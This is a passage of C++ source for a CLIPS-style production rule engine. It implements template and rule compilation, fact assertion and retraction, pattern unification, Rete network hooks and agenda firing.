    } else if (head == "defglobal") {
        compileGlobal(form);
    } else if (head == "deffunction") {
        compileFunction(form);
    } else {
        Bindings binds;
        eval(form, binds);
    }
}

void
Environment::compileTemplate(const Sexpr &form)
{
    fatalIf(form.items.size() < 2 || !form.items[1].isSymbol(),
            "deftemplate: missing name");
    auto tmpl = std::make_unique<Template>();
    tmpl->name = form.items[1].text;

    size_t idx = 2;
    if (idx < form.items.size() &&
        form.items[idx].kind == Sexpr::Kind::String)
        ++idx; // skip comment

    for (; idx < form.items.size(); ++idx) {
        const Sexpr &slot_form = form.items[idx];
        const std::string kind = slot_form.head();
        fatalIf(kind != "slot" && kind != "multislot",
                "deftemplate ", tmpl->name, ": expected slot/multislot");
        fatalIf(slot_form.items.size() < 2 ||
                !slot_form.items[1].isSymbol(),
                "deftemplate ", tmpl->name, ": slot needs a name");
        SlotDef def;
        def.name = slot_form.items[1].text;
        def.multislot = (kind == "multislot");
        for (size_t j = 2; j < slot_form.items.size(); ++j) {
            const Sexpr &attr = slot_form.items[j];
            if (attr.head() == "default") {
                Bindings binds;
                std::vector<Value> vals;
                for (size_t k = 1; k < attr.items.size(); ++k)
                    vals.push_back(eval(attr.items[k], binds));
                def.hasDefault = true;
                if (def.multislot)
                    def.defaultValue = Value::multi(std::move(vals));
                else if (vals.size() == 1)
                    def.defaultValue = vals[0];
                else
                    fatal("deftemplate ", tmpl->name,
                          ": single slot default must be one value");
            }
            // Other slot attributes (type, allowed-symbols, ...) are
            // accepted and ignored, as HTH does not constrain them.
        }
        tmpl->slots.push_back(std::move(def));
    }

    fatalIf(templates_.count(tmpl->name),
            "deftemplate ", tmpl->name, ": redefinition");
    templates_[tmpl->name] = std::move(tmpl);
}

const Template *
Environment::findTemplate(const std::string &name) const
{
    auto it = templates_.find(name);
    return it == templates_.end() ? nullptr : it->second.get();
}

const Template *
Environment::defineTemplate(const std::string &name,
                            const std::vector<SlotDef> &slots)
{
    fatalIf(templates_.count(name), "template ", name, ": redefinition");
    auto tmpl = std::make_unique<Template>();
    tmpl->name = name;
    tmpl->slots = slots;
    const Template *raw = tmpl.get();
    templates_[name] = std::move(tmpl);
    return raw;
}

const Template *
Environment::impliedTemplate(const std::string &name, size_t min_fields)
{
    (void)min_fields;
    auto it = templates_.find(name);
    if (it != templates_.end())
        return it->second.get();
    auto tmpl = std::make_unique<Template>();
    tmpl->name = name;
    tmpl->implied = true;
    SlotDef def;
    def.name = "__implied";
    def.multislot = true;
    tmpl->slots.push_back(def);
    const Template *raw = tmpl.get();
    templates_[name] = std::move(tmpl);
    return raw;
}

void
Environment::compileGlobal(const Sexpr &form)
{
    size_t idx = 1;
    while (idx < form.items.size()) {
        // Optional module name symbol before the assignments.
        if (form.items[idx].isSymbol() && idx == 1 &&
            idx + 1 < form.items.size() &&
            form.items[idx + 1].kind == Sexpr::Kind::GlobalVar) {
            ++idx;
            continue;
        }
        fatalIf(form.items[idx].kind != Sexpr::Kind::GlobalVar,
                "defglobal: expected ?*name*");
        fatalIf(idx + 2 >= form.items.size() ||
                !form.items[idx + 1].isSymbol("="),
                "defglobal: expected ?*name* = value");
        Bindings binds;
        globals_[form.items[idx].text] = eval(form.items[idx + 2], binds);
        idx += 3;
    }
    markAllTestRulesDirty();
}

void
Environment::compileFunction(const Sexpr &form)
{
    fatalIf(form.items.size() < 3 || !form.items[1].isSymbol() ||
            !form.items[2].isList(),
            "deffunction: expected (deffunction name (params) body...)");
    DefFunction fn;
    fn.name = form.items[1].text;
    for (const auto &p : form.items[2].items) {
        if (p.kind == Sexpr::Kind::Variable) {
            fatalIf(!fn.restParam.empty(),
                    "deffunction ", fn.name,
                    ": wildcard param must be last");
            fn.params.push_back(p.text);
        } else if (p.kind == Sexpr::Kind::MultiVar) {
            fn.restParam = p.text;
        } else {
            fatal("deffunction ", fn.name, ": bad parameter");
        }
    }
    size_t idx = 3;
    if (idx < form.items.size() &&
        form.items[idx].kind == Sexpr::Kind::String &&
        form.items.size() > idx + 1)
        ++idx; // comment
    for (; idx < form.items.size(); ++idx)
        fn.body.push_back(form.items[idx]);
    // (Re)definition can flip test CEs that call the function —
    // install before invalidating so Rete re-evaluates against the
    // new body.
    const std::string fn_name = fn.name;
    functions_[fn_name] = std::move(fn);
    markAllTestRulesDirty();
}

/** Whether the expression contains a (bind ...) anywhere. Only
 * `bind` writes through the Bindings eval() is handed (deffunctions
 * get a fresh frame, natives receive evaluated arguments), so a
 * bind-free test CE can be evaluated without a protective copy. */
static bool
sexprContainsBind(const Sexpr &e)
{
    if (!e.isList())
        return false;
    if (!e.items.empty() && e.items[0].isSymbol("bind"))
        return true;
    for (const Sexpr &sub : e.items)
        if (sexprContainsBind(sub))
            return true;
    return false;
}

std::vector<CondElement>
Environment::compileCe(const Sexpr &item, const std::string &rule_name)
{
    fatalIf(!item.isList(), "defrule ", rule_name,
            ": unexpected LHS token ", item.toString());
    const std::string head = item.head();
    std::vector<CondElement> out;
    if (head == "test") {
        fatalIf(item.items.size() != 2, "defrule ", rule_name,
                ": test takes one expression");
        CondElement ce;
        ce.kind = CondElement::Kind::Test;
        ce.testExpr = item.items[1];
        ce.testMutates = sexprContainsBind(ce.testExpr);
        out.push_back(std::move(ce));
    } else if (head == "not") {
        fatalIf(item.items.size() != 2 || !item.items[1].isList(),
                "defrule ", rule_name, ": not takes one pattern");
        CondElement ce;
        ce.kind = CondElement::Kind::Not;
        ce.pattern = compilePattern(item.items[1]);
        out.push_back(std::move(ce));
    } else if (head == "exists") {
        fatalIf(item.items.size() != 2 || !item.items[1].isList(),
                "defrule ", rule_name,
                ": exists takes one pattern");
        CondElement ce;
        ce.kind = CondElement::Kind::Exists;
        ce.pattern = compilePattern(item.items[1]);
        out.push_back(std::move(ce));
    } else if (head == "and") {
        for (size_t i = 1; i < item.items.size(); ++i) {
            auto sub = compileCe(item.items[i], rule_name);
            out.insert(out.end(), sub.begin(), sub.end());
        }
    } else {
        CondElement ce;
        ce.kind = CondElement::Kind::Pattern;
        ce.pattern = compilePattern(item);
        out.push_back(std::move(ce));
    }
    return out;
}

void
Environment::compileRule(const Sexpr &form)
{
    fatalIf(form.items.size() < 2 || !form.items[1].isSymbol(),
            "defrule: missing name");
    const std::string name = form.items[1].text;
    int salience = 0;
    std::string comment;

    size_t idx = 2;
    if (idx < form.items.size() &&
        form.items[idx].kind == Sexpr::Kind::String) {
        comment = form.items[idx].text;
        ++idx;
    }

    // Left-hand side, up to `=>`. An `or` CE splits the rule into
    // disjuncts, each compiled as its own Rule under the same name
    // (the way CLIPS expands or-CEs).
    std::vector<std::vector<CondElement>> alternatives(1);
    bool seen_arrow = false;
    while (idx < form.items.size()) {
        const Sexpr &item = form.items[idx];
        if (item.isSymbol("=>")) {
            seen_arrow = true;
            ++idx;
            break;
        }
        if (item.kind == Sexpr::Kind::Variable) {
            // ?f <- (pattern)
            fatalIf(idx + 2 >= form.items.size() ||
                    !form.items[idx + 1].isSymbol("<-") ||
                    !form.items[idx + 2].isList(),
                    "defrule ", name, ": malformed ?f <- pattern");
            CondElement ce;
            ce.kind = CondElement::Kind::Pattern;
            ce.pattern = compilePattern(form.items[idx + 2]);
            ce.pattern.factVar = item.text;
            for (auto &alt : alternatives)
                alt.push_back(ce);
            idx += 3;
            continue;
        }
        fatalIf(!item.isList(), "defrule ", name,
                ": unexpected LHS token ", item.toString());
        const std::string head = item.head();
        if (head == "declare") {
            for (size_t j = 1; j < item.items.size(); ++j) {
                if (item.items[j].head() == "salience") {
                    Bindings binds;
                    salience = (int)
                        eval(item.items[j].items[1], binds).intValue();
                }
            }
        } else if (head == "or") {
            fatalIf(item.items.size() < 2, "defrule ", name,
                    ": or takes at least one CE");
            std::vector<std::vector<CondElement>> expanded;
            for (size_t j = 1; j < item.items.size(); ++j) {
                auto branch = compileCe(item.items[j], name);
                for (const auto &alt : alternatives) {
                    auto combined = alt;
                    combined.insert(combined.end(), branch.begin(),
                                    branch.end());
                    expanded.push_back(std::move(combined));
                }
            }
            alternatives = std::move(expanded);
        } else {
            auto ces = compileCe(item, name);
            for (auto &alt : alternatives)
                alt.insert(alt.end(), ces.begin(), ces.end());
        }
        ++idx;
    }
    fatalIf(!seen_arrow, "defrule ", name, ": missing =>");

    std::vector<Sexpr> rhs;
    for (; idx < form.items.size(); ++idx)
        rhs.push_back(form.items[idx]);

    for (auto &alt : alternatives) {
        auto rule = std::make_unique<Rule>();
        rule->name = name;
        rule->comment = comment;
        rule->salience = salience;
        rule->lhs = std::move(alt);
        rule->rhs = rhs;

        // Index the rule for incremental matching: which templates
        // feed it (the alpha index) and whether test CEs make it
        // sensitive to global/function changes. A new rule starts
        // dirty so it matches pre-existing facts.
        rule->defIndex = rules_.size();
        for (const CondElement &ce : rule->lhs) {
            if (ce.kind == CondElement::Kind::Test) {
                rule->hasTest = true;
                continue;
            }
            const Template *t = ce.pattern.tmpl;
            if (std::find(rule->refTemplates.begin(),
                          rule->refTemplates.end(),
                          t) == rule->refTemplates.end())
                rule->refTemplates.push_back(t);
        }
        for (const Template *t : rule->refTemplates)
            rulesByTmpl_[t].push_back(rules_.size());
        if (rule->hasTest)
            testRules_.push_back(rules_.size());
        ruleDirty_.push_back(1);
        ruleActivations_.push_back(0);
        anyDirty_ = true;
        rules_.push_back(std::move(rule));
        // Compile into the live Rete network; priming against the
        // current memories is what makes the new rule match
        // pre-existing facts (the dirty flag above covers the
        // oracle strategies).
        if (rete_)
            rete_->addRule(*rules_.back());
    }
}

namespace
{

/** Compile one pattern term (literal, variable or wildcard). */
PatTerm
compileTerm(const Sexpr &t)
{
    PatTerm term;
    switch (t.kind) {
      case Sexpr::Kind::Variable:
        term.kind = PatTerm::Kind::SingleVar;
        term.var = t.text;
        return term;
      case Sexpr::Kind::MultiVar:
        term.kind = PatTerm::Kind::MultiVar;
        term.var = t.text;
        return term;
      case Sexpr::Kind::Symbol:
        if (t.text == "?") {
            term.kind = PatTerm::Kind::Wildcard;
        } else if (t.text == "$?") {
            term.kind = PatTerm::Kind::MultiWild;
        } else {
            term.kind = PatTerm::Kind::Literal;
            term.literal = Value::sym(t.text);
        }
        return term;
      case Sexpr::Kind::String:
        term.kind = PatTerm::Kind::Literal;
        term.literal = Value::str(t.text);
        return term;
      case Sexpr::Kind::Integer:
        term.kind = PatTerm::Kind::Literal;
        term.literal = Value::integer(t.intValue);
        return term;
      case Sexpr::Kind::Float:
        term.kind = PatTerm::Kind::Literal;
        term.literal = Value::real(t.floatValue);
        return term;
      default:
        fatal("pattern: unsupported term ", t.toString());
    }
}

} // namespace

PatternCE
Environment::compilePattern(const Sexpr &form)
{
    fatalIf(form.items.empty() || !form.items[0].isSymbol(),
            "pattern: expected (template ...)");
    const std::string name = form.items[0].text;

    PatternCE pat;
    const Template *tmpl = findTemplate(name);

    if (tmpl && !tmpl->implied) {
        pat.tmpl = tmpl;
        for (size_t i = 1; i < form.items.size(); ++i) {
            const Sexpr &slot_form = form.items[i];
            fatalIf(!slot_form.isList() || slot_form.items.empty() ||
                    !slot_form.items[0].isSymbol(),
                    "pattern ", name, ": expected (slot terms...)");
            SlotPattern sp;
            sp.slotIndex = tmpl->slotIndex(slot_form.items[0].text);
            fatalIf(sp.slotIndex < 0, "pattern ", name,
                    ": unknown slot ", slot_form.items[0].text);
            for (size_t j = 1; j < slot_form.items.size(); ++j)
                sp.terms.push_back(compileTerm(slot_form.items[j]));
            const SlotDef &def = tmpl->slots[sp.slotIndex];
            if (!def.multislot) {
                fatalIf(sp.terms.size() != 1, "pattern ", name,
                        ": single slot ", def.name, " needs one term");
                fatalIf(sp.terms[0].kind == PatTerm::Kind::MultiVar ||
                        sp.terms[0].kind == PatTerm::Kind::MultiWild,
                        "pattern ", name, ": multifield term in single "
                        "slot ", def.name);
            }
            pat.slotPatterns.push_back(std::move(sp));
        }
        return pat;
    }

    // Ordered (implied) pattern: positional terms over __implied.
    pat.tmpl = impliedTemplate(name, form.items.size() - 1);
    fatalIf(!pat.tmpl->implied, "pattern ", name,
            ": ordered pattern on deftemplate fact");
    SlotPattern sp;
    sp.slotIndex = 0;
    for (size_t i = 1; i < form.items.size(); ++i)
        sp.terms.push_back(compileTerm(form.items[i]));
    pat.slotPatterns.push_back(std::move(sp));
    return pat;
}

//
// Facts
//

FactId
Environment::assertString(const std::string &text)
{
    Bindings binds;
    Value v = doAssert(parseOneSexpr(text), binds);
    return (FactId)v.intValue();
}

FactId
Environment::assertFact(
    const std::string &tmpl_name,
    const std::vector<std::pair<std::string, Value>> &slots)
{
    const Template *tmpl = findTemplate(tmpl_name);
    fatalIf(!tmpl, "assertFact: unknown template ", tmpl_name);

    auto f = std::make_unique<Fact>();
    f->id = nextFactId_++;
    f->tmpl = tmpl;
    f->slots.resize(tmpl->slots.size());
    for (size_t i = 0; i < tmpl->slots.size(); ++i) {
        const SlotDef &def = tmpl->slots[i];
        if (def.hasDefault)
            f->slots[i] = def.defaultValue;
        else if (def.multislot)
            f->slots[i] = Value::multi({});
        else
            f->slots[i] = Value::sym("nil");
    }
    for (const auto &[slot_name, value] : slots) {
        int idx = tmpl->slotIndex(slot_name);
        fatalIf(idx < 0, "assertFact ", tmpl_name, ": no slot ",
                slot_name);
        const SlotDef &def = tmpl->slots[idx];
        if (def.multislot && !value.isMulti())
            f->slots[idx] = Value::multi({value});
        else
            f->slots[idx] = value;
    }

    Fact *raw = f.get();
    factStore_.push_back(std::move(f));
    factsByTmpl_[tmpl->name].push_back(raw);
    factIndex_[raw->id] = raw;
    if (rete_) {
        // Plus-token propagation happens here, at assert time; the
        // scope attributes it to the match phase run() no longer
        // pays for.
        obs::PhaseScope match(profiler_, obs::Phase::ClipsMatch);
        rete_->onAssert(raw);
    } else {
        noteTemplateChanged(tmpl);
    }
    ++stats_.asserts;
    return raw->id;
}

bool
Environment::retract(FactId id)
{
    auto it = factIndex_.find(id);
    if (it == factIndex_.end() || it->second->retracted)
        return false;
    Fact *f = it->second;
    f->retracted = true;
    auto &vec = factsByTmpl_[f->tmpl->name];
    vec.erase(std::remove(vec.begin(), vec.end(),
                          (const Fact *)f), vec.end());
    if (rete_) {
        // Minus propagation must run while the slots are intact:
        // negated patterns re-unify against the dying fact to drop
        // their support counts. It also withdraws every agenda
        // entry the fact supported.
        obs::PhaseScope match(profiler_, obs::Phase::ClipsMatch);
        rete_->onRetract(f);
    }
    // Nothing reads a retracted fact's fields (fact() hides it, the
    // matchers only see live facts), so release the slot storage —
    // the store itself is append-only.
    f->slots.clear();
    f->slots.shrink_to_fit();
    if (!rete_) {
        noteTemplateChanged(f->tmpl);
        removeActivationsUsing(id);
    }
    ++stats_.retracts;
    if (++retractsSinceSweep_ >= 64 + fired_.size() / 2)
        sweepFired();
    return true;
}

const Fact *
Environment::fact(FactId id) const
{
    auto it = factIndex_.find(id);
    if (it == factIndex_.end() || it->second->retracted)
        return nullptr;
    return it->second;
}

std::vector<const Fact *>
Environment::facts() const
{
    std::vector<const Fact *> out;
    for (const auto &f : factStore_)
        if (!f->retracted)
            out.push_back(f.get());
    return out;
}

const std::vector<const Fact *> &
Environment::factsByTemplate(const std::string &name) const
{
    static const std::vector<const Fact *> kNone;
    auto it = factsByTmpl_.find(name);
    return it == factsByTmpl_.end() ? kNone : it->second;
}

void
Environment::clearFacts()
{
    factStore_.clear();
    factsByTmpl_.clear();
    factIndex_.clear();
    fired_.clear();
    retractsSinceSweep_ = 0;
    agenda_.clear();
    markAllRulesDirty();
    // A fresh network over empty working memory: rules whose LHS is
    // satisfied vacuously (not-only) re-activate via priming.
    if (rete_)
        rebuildRete();
}

size_t
Environment::liveFactCount() const
{
    size_t n = 0;
    for (const auto &f : factStore_)
        if (!f->retracted)
            ++n;
    return n;
}

//
// Matching
//

bool
Environment::unifyTermSingle(const PatTerm &term, const Value &v,
                             Bindings &binds)
{
    switch (term.kind) {
      case PatTerm::Kind::Literal:
        return term.literal == v;
      case PatTerm::Kind::Wildcard:
        return true;
      case PatTerm::Kind::SingleVar: {
        auto it = binds.vars.find(term.var);
        if (it != binds.vars.end())
            return it->second == v;
        binds.vars[term.var] = v;
        return true;
      }
      default:
        return false;
    }
}

bool
Environment::unifySequence(const std::vector<PatTerm> &terms,
                           size_t term_idx,
                           const std::vector<Value> &fields,
                           size_t field_idx, Bindings &binds)
{
    if (term_idx == terms.size())
        return field_idx == fields.size();

    const PatTerm &term = terms[term_idx];
    switch (term.kind) {
      case PatTerm::Kind::Literal:
      case PatTerm::Kind::Wildcard:
      case PatTerm::Kind::SingleVar: {
        if (field_idx >= fields.size())
            return false;
        // unifyTermSingle only compares against an existing binding
        // (it never overwrites), so backtracking just drops the
        // fresh bind it may have appended.
        size_t mark = binds.vars.size();
        if (!unifyTermSingle(term, fields[field_idx], binds))
            return false;
        if (unifySequence(terms, term_idx + 1, fields, field_idx + 1,
                          binds))
            return true;
        binds.vars.truncate(mark);
        return false;
      }
      case PatTerm::Kind::MultiVar: {
        auto it = binds.vars.find(term.var);
        if (it != binds.vars.end()) {
            const Value &bound = it->second;
            if (!bound.isMulti())
                return false;
            const auto &want = bound.items();
            if (field_idx + want.size() > fields.size())
                return false;
            for (size_t k = 0; k < want.size(); ++k)
                if (!(fields[field_idx + k] == want[k]))
                    return false;
            return unifySequence(terms, term_idx + 1, fields,
                                 field_idx + want.size(), binds);
        }
        // A trailing $?var can only match the whole remainder: bind
        // it directly instead of enumerating segment lengths.
        if (term_idx + 1 == terms.size()) {
            std::vector<Value> seg(fields.begin() + field_idx,
                                   fields.end());
            binds.vars[term.var] = Value::multi(std::move(seg));
            return true;
        }
        for (size_t len = 0; field_idx + len <= fields.size(); ++len) {
            std::vector<Value> seg(fields.begin() + field_idx,
                                   fields.begin() + field_idx + len);
            binds.vars[term.var] = Value::multi(std::move(seg));
            if (unifySequence(terms, term_idx + 1, fields,
                              field_idx + len, binds))
                return true;
        }
        binds.vars.erase(term.var);
        return false;
      }
      case PatTerm::Kind::MultiWild: {
        if (term_idx + 1 == terms.size())
            return true; // a trailing $? matches any remainder
        for (size_t len = 0; field_idx + len <= fields.size(); ++len)
            if (unifySequence(terms, term_idx + 1, fields,
                              field_idx + len, binds))
                return true;
        return false;
      }
    }
    return false;
}

bool
Environment::unifyPattern(const PatternCE &pat, const Fact &f,
                          Bindings &binds)
{
    if (f.tmpl != pat.tmpl)
        return false;
    for (const auto &sp : pat.slotPatterns) {
        const SlotDef &def = pat.tmpl->slots[sp.slotIndex];
        const Value &v = f.slots[sp.slotIndex];
        if (def.multislot) {
            if (!v.isMulti())
                return false;
            if (!unifySequence(sp.terms, 0, v.items(), 0, binds))
                return false;
        } else {
            if (!unifyTermSingle(sp.terms[0], v, binds))
                return false;
        }
    }
    return true;
}

void
Environment::matchFrom(const Rule &rule, size_t ce_idx, Bindings &binds,
                       std::vector<FactId> &used,
                       std::vector<Activation> &out)
{
    if (ce_idx == rule.lhs.size()) {
        std::vector<FactId> key = used;
        std::sort(key.begin(), key.end());
        if (fired_.count(std::pair<const std::string &,
                                   const std::vector<FactId> &>(
                rule.name, key)))
            return;
        Activation act;
        act.rule = &rule;
        act.facts = used;
        act.binds = binds;
        act.recency = used.empty()
            ? 0 : *std::max_element(used.begin(), used.end());
        out.push_back(std::move(act));
        ++stats_.activations;
        if (rule.defIndex < ruleActivations_.size())
            ++ruleActivations_[rule.defIndex];
        return;
    }

    const CondElement &ce = rule.lhs[ce_idx];
    switch (ce.kind) {
      case CondElement::Kind::Pattern: {
        auto it = factsByTmpl_.find(ce.pattern.tmpl->name);
        if (it == factsByTmpl_.end())
            return;
        ++stats_.alphaHits;
        // By index, size re-read each pass: robust against the
        // template vector changing underneath (RHS execution never
        // runs during matching, but test CEs evaluate arbitrary
        // expressions). Failed candidates are undone by truncating
        // the bindings to the mark — the unifier's only net effect
        // is appending fresh keys — instead of copying both maps
        // for every fact tried.
        for (size_t ci = 0; ci < it->second.size(); ++ci) {
            const Fact *f = it->second[ci];
            if (f->retracted)
                continue;
            size_t vmark = binds.vars.size();
            size_t fmark = binds.factVars.size();
            if (unifyPattern(ce.pattern, *f, binds)) {
                if (!ce.pattern.factVar.empty())
                    binds.factVars[ce.pattern.factVar] = f->id;
                used.push_back(f->id);
                matchFrom(rule, ce_idx + 1, binds, used, out);
                used.pop_back();
            }
            binds.vars.truncate(vmark);
            binds.factVars.truncate(fmark);
        }
        return;
      }
      case CondElement::Kind::Test: {
        bool pass;
        if (ce.testMutates) {
            // A (bind ...) inside the test may clobber pattern
            // bindings: give it a throwaway copy.
            Bindings copy = binds;
            pass = eval(ce.testExpr, copy).truthy();
        } else {
            pass = eval(ce.testExpr, binds).truthy();
        }
        if (pass)
            matchFrom(rule, ce_idx + 1, binds, used, out);
        return;
      }
      case CondElement::Kind::Not: {
        auto it = factsByTmpl_.find(ce.pattern.tmpl->name);
        if (it != factsByTmpl_.end()) {
            ++stats_.alphaHits;
            for (const Fact *f : it->second) {
                if (f->retracted)
                    continue;
                // Probe in place and truncate: the unifier only
                // appends fresh keys, so this never escapes.
                size_t vmark = binds.vars.size();
                bool hit = unifyPattern(ce.pattern, *f, binds);
                binds.vars.truncate(vmark);
                if (hit)
                    return; // a match exists: the NOT fails
            }
        }
        matchFrom(rule, ce_idx + 1, binds, used, out);
        return;
      }
      case CondElement::Kind::Exists: {
        auto it = factsByTmpl_.find(ce.pattern.tmpl->name);
        if (it == factsByTmpl_.end())
            return;
        ++stats_.alphaHits;
        for (const Fact *f : it->second) {
            if (f->retracted)
                continue;
            size_t vmark = binds.vars.size();
            bool hit = unifyPattern(ce.pattern, *f, binds);
            binds.vars.truncate(vmark);
            if (hit) {
                // One witness is enough; bindings do not escape.
                matchFrom(rule, ce_idx + 1, binds, used, out);
                return;
            }
        }
        return;
      }
    }
}

void
Environment::computeActivations(std::vector<Activation> &out)
{
    ++stats_.matchPasses;
    for (const auto &rule : rules_) {
        ++stats_.ruleMatches;
        Bindings binds;
        std::vector<FactId> used;
        matchFrom(*rule, 0, binds, used, out);
    }
}

bool
Environment::beats(const Activation &a, const Activation &b)
{
    if (a.rule->salience != b.rule->salience)
        return a.rule->salience > b.rule->salience;
    if (a.recency != b.recency)
        return a.recency > b.recency;
    if (a.rule->name != b.rule->name)
        return a.rule->name < b.rule->name;
    if (a.rule->defIndex != b.rule->defIndex)
        return a.rule->defIndex < b.rule->defIndex;
    return a.facts < b.facts;
}

void
Environment::noteTemplateChanged(const Template *tmpl)
{
    auto it = rulesByTmpl_.find(tmpl);
    if (it == rulesByTmpl_.end())
        return;
    for (size_t idx : it->second)
        ruleDirty_[idx] = 1;
    anyDirty_ = true;
}

void
Environment::markAllTestRulesDirty()
{
    for (size_t idx : testRules_)
        ruleDirty_[idx] = 1;
    if (!testRules_.empty())
        anyDirty_ = true;
    if (rete_)
        rete_->onTestsInvalidated();
}

void
Environment::markAllRulesDirty()
{
    std::fill(ruleDirty_.begin(), ruleDirty_.end(), 1);
    anyDirty_ = !ruleDirty_.empty();
}

void
Environment::removeActivationsOf(const Rule *rule)
{
    std::erase_if(agenda_, [rule](const Activation &a) {
        return a.rule == rule;
    });
}

void
Environment::removeActivationsUsing(FactId id)
{
    std::erase_if(agenda_, [id](const Activation &a) {
        return std::find(a.facts.begin(), a.facts.end(), id) !=
               a.facts.end();
    });
}

void
Environment::sweepFired()
{
    // A refraction record with a retracted (or cleared) fact can
    // never be produced by the matcher again — fact ids are not
    // reused — so it is garbage; without this sweep fired_ grows
    // with every transient event Secpert pushes through.
    retractsSinceSweep_ = 0;
    for (auto it = fired_.begin(); it != fired_.end();) {
        bool dead = false;
        for (FactId id : it->second) {
            auto fit = factIndex_.find(id);
            if (fit == factIndex_.end() || fit->second->retracted) {
                dead = true;
                break;
            }
        }
        it = dead ? fired_.erase(it) : std::next(it);
    }
}

void
Environment::refreshAgenda()
{
    if (!anyDirty_)
        return;
    ++stats_.matchPasses;
    for (size_t i = 0; i < rules_.size(); ++i) {
        if (!ruleDirty_[i])
            continue;
        ruleDirty_[i] = 0;
        removeActivationsOf(rules_[i].get());
        ++stats_.ruleMatches;
        ++stats_.dirtyRescans;
        Bindings binds;
        std::vector<FactId> used;
        matchFrom(*rules_[i], 0, binds, used, agenda_);
    }
    anyDirty_ = false;
}

void
Environment::setMatchStrategy(MatchStrategy s)
{
    if (strategy_ == s)
        return;
    strategy_ = s;
    // Hand the new matcher a clean slate; the agenda is rebuilt from
    // working memory (Rete by terminal priming, the oracles by dirty
    // rescans on the next run()), so the switch point cannot change
    // what fires.
    agenda_.clear();
    if (s == MatchStrategy::Rete) {
        rebuildRete();
    } else {
        rete_.reset();
        markAllRulesDirty();
    }
}

void
Environment::rebuildRete()
{
    rete_.reset();  // count surviving tokens as destroyed first
    rete_ = std::make_unique<ReteNetwork>(*this);
    for (const auto &rule : rules_)
        rete_->addRule(*rule);
}

void
Environment::reteActivate(const Rule *rule, std::vector<FactId> facts,
                          const Bindings &binds)
{
    std::vector<FactId> key = facts;
    std::sort(key.begin(), key.end());
    if (fired_.count(std::pair<const std::string &,
                               const std::vector<FactId> &>(
            rule->name, key)))
        return;
    Activation act;
    act.rule = rule;
    act.recency = facts.empty()
        ? 0 : *std::max_element(facts.begin(), facts.end());
    act.facts = std::move(facts);
    act.binds = binds;
    agenda_.push_back(std::move(act));
    ++stats_.activations;
    if (rule->defIndex < ruleActivations_.size())
        ++ruleActivations_[rule->defIndex];
}

void
Environment::reteDeactivate(const Rule *rule,
                            const std::vector<FactId> &facts)
{
    // A token chain determines its fact tuple uniquely, so at most
    // one agenda entry matches.
    for (auto it = agenda_.begin(); it != agenda_.end(); ++it) {
        if (it->rule == rule && it->facts == facts) {
            agenda_.erase(it);
            return;
        }
    }
}

size_t
Environment::reteLiveTokens() const
{
    return rete_ ? rete_->liveTokens() : 0;
}

size_t
Environment::reteAlphaNodes() const
{
    return rete_ ? rete_->alphaNodeCount() : 0;
}

size_t
Environment::reteBetaNodes() const
{
    return rete_ ? rete_->betaNodeCount() : 0;
}

int
Environment::run(int max_fires)
{
    int fired = 0;
    while (max_fires < 0 || fired < max_fires) {
        // Rete: the agenda was maintained by delta propagation at
        // assert/retract time; nothing to recompute (and no phase
        // scope to pay for) here.
        if (strategy_ != MatchStrategy::Rete) {
            obs::PhaseScope match(profiler_,
                                  obs::Phase::ClipsMatch);
            if (strategy_ == MatchStrategy::Naive) {
                agenda_.clear();
                computeActivations(agenda_);
            } else {
                refreshAgenda();
            }
        }
        if (agenda_.empty())
            break;
        stats_.agendaPeak = std::max(stats_.agendaPeak,
                                     (uint64_t)agenda_.size());
        auto best =
            std::min_element(agenda_.begin(), agenda_.end(), beats);
        Activation top = std::move(*best);
        agenda_.erase(best);

        std::vector<FactId> key = top.facts;
        std::sort(key.begin(), key.end());
        fired_.insert({top.rule->name, key});
        // Refraction burned this key for every rule of this name:
        // drop sibling activations (same facts, different bindings)
        // the maintained agenda may still hold.
        std::erase_if(agenda_, [&](const Activation &a) {
            if (a.rule->name != top.rule->name)
                return false;
            std::vector<FactId> k = a.facts;
            std::sort(k.begin(), k.end());
            return k == key;
        });
        fireTrace_.push_back({top.rule->name, top.facts});
        ++stats_.fires;
        ++fired;

        obs::PhaseScope fire(profiler_, obs::Phase::ClipsFire);
        Bindings binds = std::move(top.binds);
        for (const auto &action : top.rule->rhs)
            eval(action, binds);
    }
    return fired;
}

std::map<std::string, uint64_t>
Environment::activationCountsByRule() const
{
    std::map<std::string, uint64_t> out;
    for (size_t i = 0; i < rules_.size(); ++i)
        if (i < ruleActivations_.size() && ruleActivations_[i])
            out[rules_[i]->name] += ruleActivations_[i];
    return out;
}

std::map<std::string, uint64_t>
Environment::fireCountsByRule() const
{
    std::map<std::string, uint64_t> out;
    for (const FireRecord &fr : fireTrace_)
        ++out[fr.rule];
    return out;
}

std::string
Environment::fireTraceToString() const
{
    std::string out;
    for (const FireRecord &fr : fireTrace_) {
        out += fr.rule;
        char sep = ' ';
        for (FactId id : fr.facts) {
            out += sep;
            out += std::to_string(id);
            sep = ',';
        }
        out += '\n';
    }
    return out;
}

//
// Evaluation
//

Value
Environment::eval(const Sexpr &expr, Bindings &binds)
{
    switch (expr.kind) {
      case Sexpr::Kind::Symbol:
        return Value::sym(expr.text);
      case Sexpr::Kind::String:
        return Value::str(expr.text);
      case Sexpr::Kind::Integer:
        return Value::integer(expr.intValue);
      case Sexpr::Kind::Float:
        return Value::real(expr.floatValue);
      case Sexpr::Kind::Variable:
      case Sexpr::Kind::MultiVar: {
        auto it = binds.vars.find(expr.text);
        if (it != binds.vars.end())
            return it->second;
        auto fit = binds.factVars.find(expr.text);
        if (fit != binds.factVars.end())
            return Value::integer((int64_t)fit->second);
        fatal("unbound variable ?", expr.text);
      }
      case Sexpr::Kind::GlobalVar: {
        auto it = globals_.find(expr.text);
        fatalIf(it == globals_.end(), "unknown global ?*", expr.text,
                "*");
        return it->second;
      }
      case Sexpr::Kind::List:
        return evalCall(expr, binds);
    }
    return Value();
}

Value
Environment::doAssert(const Sexpr &form, Bindings &binds)
{
    fatalIf(!form.isList() || form.items.empty() ||
            !form.items[0].isSymbol(),
            "assert: expected (template ...)");
    const std::string name = form.items[0].text;
    const Template *tmpl = findTemplate(name);

    if (tmpl && !tmpl->implied) {
        std::vector<std::pair<std::string, Value>> slots;
        for (size_t i = 1; i < form.items.size(); ++i) {
            const Sexpr &slot_form = form.items[i];
            fatalIf(!slot_form.isList() || slot_form.items.empty() ||
                    !slot_form.items[0].isSymbol(),
                    "assert ", name, ": expected (slot value...)");
            const std::string slot_name = slot_form.items[0].text;
            int idx = tmpl->slotIndex(slot_name);
            fatalIf(idx < 0, "assert ", name, ": unknown slot ",
                    slot_name);
            std::vector<Value> vals;
            for (size_t j = 1; j < slot_form.items.size(); ++j)
